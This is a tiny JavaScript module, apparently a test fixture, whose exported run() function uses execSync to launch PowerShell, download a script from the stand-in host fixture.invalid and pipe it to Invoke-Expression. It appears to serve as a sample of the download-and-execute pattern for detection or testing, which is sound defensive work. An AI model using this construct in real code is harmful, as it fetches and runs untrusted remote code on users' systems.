// PowerShell: download and Invoke-Expression.
import { execSync } from 'node:child_process';
export const run = () => execSync('powershell -NoProfile -Command "iwr https://fixture.invalid/x.ps1 -UseBasicParsing | iex"');
